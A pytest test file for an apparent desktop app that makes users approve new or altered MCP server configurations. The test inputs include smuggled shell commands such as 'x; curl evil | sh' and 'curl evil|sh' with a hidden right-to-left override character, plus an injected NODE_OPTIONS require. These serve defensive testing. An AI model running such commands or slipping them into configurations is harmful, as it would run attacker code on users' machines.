"""A server of the file is trusted as a person agreed to it, and not as somebody else changed it."""

from __future__ import annotations

import json
import shutil
from typing import TYPE_CHECKING, Any

import pytest

from desktop.base.errors import ConfigError
from desktop.config.models import ServerConfig
from desktop.config.store import ConfigStore
from desktop.config.trust import TrustFile
from desktop.redaction.policy import PLACEHOLDER

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import ExpectedLogs

    OpenStore = Callable[..., ConfigStore]

ENV = {"API_KEY": "s3cretValue"}
OURS: dict[str, Any] = {"command": "npx", "args": ["-y", "pkg"], "env": ENV}


@pytest.fixture
def trust_file(tmp_path: Path) -> Path:
    return tmp_path / "data" / "trust.json"


@pytest.fixture
def open_store(path: Path, trust_file: Path) -> OpenStore:
    """A new run of the app, after somebody else wrote `servers` into the file."""

    def load(servers: dict[str, Any] | None = None, environ: dict[str, str] | None = None) -> Any:
        if servers is not None:
            path.write_text(json.dumps({"mcpServers": servers}), "utf-8")
        store = ConfigStore(path, environ or {}, trust=TrustFile(trust_file, path))
        store.load()
        store.keep_adopted()
        return store

    return load


def test_at_the_first_start_all_that_is_there_is_trusted_and_later_nothing_new_is(
    open_store: OpenStore,
) -> None:
    assert not open_store({"a": OURS}).untrusted
    store = open_store({"a": OURS, "b": {"command": "evil"}})
    assert list(store.untrusted) == ["b"]
    assert store.untrusted["b"].is_new
    refusal = store.refusal(store.servers["b"])
    assert refusal is not None
    assert 'Server "b" is new' in str(refusal)
    assert "evil" in str(refusal)
    assert "mcp-desktop trust b" in str(refusal)
    assert store.refusal(store.servers["a"]) is None


@pytest.mark.parametrize(
    ("change", "place"),
    [
        ({"command": "/tmp/npx"}, "command"),
        ({"args": ["-y", "pkg", "--evil"]}, "command"),
        ({"cwd": "/tmp"}, "cwd"),
        ({"env": {**ENV, "NODE_OPTIONS": "--require /tmp/x.js"}}, "env.NODE_OPTIONS"),
        ({"env": {"API_KEY": "${GITHUB_TOKEN}"}}, "env.API_KEY"),
        ({"env": {"API_KEY": "x; curl evil | sh"}}, "env.API_KEY"),
    ],
)
def test_a_change_of_what_is_run_has_to_be_agreed_to_and_is_shown(
    open_store: OpenStore, change: dict[str, Any], place: str
) -> None:
    open_store({"a": OURS})
    store = open_store({"a": {**OURS, **change}})
    assert not store.untrusted["a"].is_new
    changed = [each for each in store.differences("a") if each.is_changed]
    assert [each.place for each in changed] == [place]
    assert changed[0].now != changed[0].before


@pytest.mark.parametrize(
    "change",
    [
        {"env": {"API_KEY": "another-s3cret"}},
        {"enabled": False},
        {"timeout": 5},
        {"disabledTools": ["x"]},
    ],
)
def test_what_changes_without_another_program_being_run_is_not_asked_about(
    open_store: OpenStore, change: dict[str, Any]
) -> None:
    open_store({"a": OURS})
    assert not open_store({"a": {**OURS, **change}}).untrusted


@pytest.mark.parametrize(
    ("change", "is_asked"),
    [
        ({"url": "https://evil.example/mcp"}, True),
        ({"headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"}}, True),
        ({"headers": {"Authorization": "Bearer s3cretValue", "X-More": "1"}}, True),
        ({"type": "sse"}, True),
        ({"headers": {"Authorization": "Bearer another-s3cret"}}, False),
    ],
)
def test_another_address_or_more_that_is_sent_there_is_asked_about_but_no_new_token(
    open_store: OpenStore, change: dict[str, Any], is_asked: bool
) -> None:
    remote = {"url": "https://x.example/mcp", "headers": {"Authorization": "Bearer s3cretValue"}}
    open_store({"a": remote})
    assert bool(open_store({"a": {**remote, **change}}).untrusted) is is_asked


def test_what_is_agreed_to_once_is_trusted_in_the_next_run_until_it_changes_again(
    open_store: OpenStore,
) -> None:
    open_store({})
    store = open_store({"a": OURS})
    store.agree([store.servers["a"]])
    assert not store.untrusted
    assert not open_store().untrusted
    assert list(open_store({"a": {"command": "sh"}}).untrusted) == ["a"]


def test_a_yes_to_what_was_shown_is_none_to_what_is_written_meanwhile(
    open_store: OpenStore, path: Path
) -> None:
    open_store({})
    store = open_store({"a": OURS})
    shown = store.untrusted["a"].config
    path.write_text(json.dumps({"mcpServers": {"a": {"command": "evil"}}}), "utf-8")
    store.reload()
    store.agree([shown])
    assert list(store.untrusted) == ["a"]


def test_what_a_person_writes_in_the_app_needs_no_second_yes_and_the_rest_still_does(
    open_store: OpenStore,
) -> None:
    open_store({})
    store = open_store({"theirs": {"command": "evil"}})
    store.add_server(ServerConfig(name="typed", command="uvx"))
    store.add_servers([ServerConfig(name="imported", url="https://x.example/", transport="http")])
    assert list(store.untrusted) == ["theirs"]
    store.replace_server("typed", ServerConfig(name="renamed", command="uvx", args=("x",)))
    store.set_enabled("theirs", False)
    store.set_tool_enabled("theirs", "t", False)
    assert list(store.untrusted) == ["theirs"]
    store.replace_server("theirs", store.servers["theirs"])
    assert not store.untrusted
    assert not open_store().untrusted


def test_a_save_that_finds_the_file_changed_by_another_program_does_not_trust_that(
    open_store: OpenStore, path: Path
) -> None:
    store = open_store({"a": OURS})
    path.write_text(json.dumps({"mcpServers": {"a": {"command": "evil"}}}), "utf-8")
    store.add_server(ServerConfig(name="b", command="uvx"))
    assert list(store.untrusted) == ["a"]


def test_a_removed_server_is_new_when_it_comes_back(open_store: OpenStore) -> None:
    open_store({"a": OURS, "b": {"command": "x"}}).remove_server("a")
    store = open_store({"a": OURS, "b": {"command": "x"}})
    assert list(store.untrusted) == ["a"]
    assert store.untrusted["a"].is_new


def test_servers_of_the_environment_and_of_a_caller_are_their_own_act(
    open_store: OpenStore,
) -> None:
    open_store({})
    given = json.dumps({"mcpServers": {"e": {"command": "x"}}})
    store = open_store({"a": OURS}, {"MCP_SERVERS": given})
    assert list(store.untrusted) == ["a"]
    assert store.refusal(ServerConfig(name="a", command="of-the-caller")) is None


def test_another_config_file_with_the_same_data_folder_has_to_be_agreed_to(
    open_store: OpenStore, tmp_path: Path, trust_file: Path
) -> None:
    open_store({"a": OURS})
    project = tmp_path / "project.json"
    project.write_text(json.dumps({"mcpServers": {"a": OURS}}), "utf-8")
    store = ConfigStore(project, {}, trust=TrustFile(trust_file, project))
    store.load()
    assert list(store.untrusted) == ["a"]
    store.agree([store.servers["a"]])
    assert not open_store().untrusted


@pytest.mark.parametrize("content", [b"{", b"[]", b'{"version": 99, "configs": {}}', b"\xff"])
def test_a_broken_file_trusts_nothing_is_said_and_kept_beside(
    open_store: OpenStore, trust_file: Path, content: bytes, expected_logs: ExpectedLogs
) -> None:
    expected_logs.expect(r"trust\.json is damaged")
    open_store({"a": OURS, "b": {"command": "x"}})
    trust_file.write_bytes(content)
    store = open_store()
    assert set(store.untrusted) == {"a", "b"}
    assert str(trust_file) in str(store.trust_problem)
    assert trust_file.read_bytes() == content
    store.agree([store.servers["a"]])
    assert list(store.untrusted) == ["b"]
    assert store.trust_problem is None
    (kept,) = trust_file.parent.glob("trust.json.damaged-*")
    assert kept.read_bytes() == content


def test_the_file_is_private_and_holds_no_secret(open_store: OpenStore, trust_file: Path) -> None:
    url = "https://user:s3cretOne@x.example/?token=s3cretTwo"
    args = ["--token", "s3cretThree"]
    headers = {"Authorization": "Bearer s3cretFour"}
    open_store({"a": {**OURS, "args": args}, "b": {"url": url, "headers": headers}})
    assert "s3cret" not in trust_file.read_text("utf-8")
    assert (
        PLACEHOLDER
        in json.loads(trust_file.read_bytes())["configs"].popitem()[1]["a"]["parts"]["env.API_KEY"][
            "shown"
        ]
    )
    assert trust_file.stat().st_mode & 0o077 == 0


def test_code_that_looks_like_a_secret_is_shown_before_a_yes(open_store: OpenStore) -> None:
    open_store({"a": {"command": "sh", "args": ["-c", "TOKEN=x;true"]}})
    store = open_store({"a": {"command": "sh", "args": ["-c", "TOKEN=x;curl evil\u202e|sh"]}})
    (command,) = store.differences("a")
    assert command.is_changed
    assert command.now == r"sh -c 'TOKEN=x;curl evil\u202e|sh'"


def test_where_nothing_can_be_kept_the_yes_counts_for_this_run(
    open_store: OpenStore, trust_file: Path
) -> None:
    open_store({})
    store = open_store({"a": OURS})
    shutil.rmtree(trust_file.parent)
    trust_file.parent.write_bytes(b"")
    with pytest.raises(ConfigError):
        store.agree([store.servers["a"]])
    assert not store.untrusted


def test_approvals_that_are_gone_while_the_app_runs_count_on_and_adopt_nothing(
    open_store: OpenStore, trust_file: Path
) -> None:
    store = open_store({"a": OURS})
    store.keep_adopted()
    text = json.loads(store.path.read_bytes())
    text["mcpServers"]["b"] = {"command": "x"}
    store.path.write_text(json.dumps(text))
    trust_file.unlink()
    store.reload()
    assert list(store.untrusted) == ["b"]
    assert "is gone while the app runs" in str(store.trust_problem)
